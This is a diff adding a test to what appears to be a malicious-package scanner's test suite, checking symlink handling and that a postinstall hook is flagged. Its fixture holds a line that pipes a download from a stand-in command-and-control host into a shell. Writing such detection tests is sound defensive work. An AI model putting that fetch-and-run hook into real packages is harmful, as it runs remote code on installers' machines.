@@ -296,6 +296,25 @@ describe('bad input of weir scan', () => {
     expect(run.code).toBe(0);
   });
 
+  it('reads a file of the directory under the name that a link gives it, and says which links lead away', async () => {
+    const away = join(cwd, 'away');
+    for (const folder of ['linked', 'away']) mkdirSync(join(cwd, folder));
+    write(
+      'linked/package.json',
+      JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
+    );
+    write('linked/kept.js', "require('child_process').execSync('curl https://c2.weir.test/x | sh');\n");
+    symlinkSync('kept.js', join(cwd, 'linked', 'setup.js'));
+    write('away/package.json', MANIFEST);
+    symlinkSync('../bare/index.js', join(away, 'index.js'));
+
+    const run = await scan(['linked', 'away', '--format', 'ndjson']);
+
+    const [linked, led] = resultsOf(run);
+    expect(linked?.verdict).toBe('malicious');
+    expect(led).toMatchObject({ verdict: 'inconclusive', skipped: [{ file: 'index.js' }] });
+  });
+
   it('does not call benign what grows while it is read', async () => {
     const filler = Array.from({ length: 40 }, (_, index) => [
       `f${index}.js`,
